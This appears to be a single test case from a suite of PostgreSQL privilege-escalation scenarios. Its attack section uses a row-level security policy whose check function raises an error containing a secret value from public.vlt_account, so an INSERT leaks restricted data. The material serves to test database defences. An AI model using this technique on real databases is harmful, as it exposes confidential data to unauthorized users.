-- Has a policy of its own table read when a row is inserted, and tell by an error.
-- wants: read
-- setup:
CREATE FUNCTION tell() RETURNS boolean LANGUAGE plpgsql AS $$
  BEGIN RAISE EXCEPTION '%', (SELECT max(secret) FROM public.vlt_account); END $$;
-- attack:
ALTER TABLE mallory_own ENABLE ROW LEVEL SECURITY;
ALTER TABLE mallory_own FORCE ROW LEVEL SECURITY;
CREATE POLICY open ON mallory_own USING (true) WITH CHECK (tell());
INSERT INTO mallory_own VALUES (9, 'x');
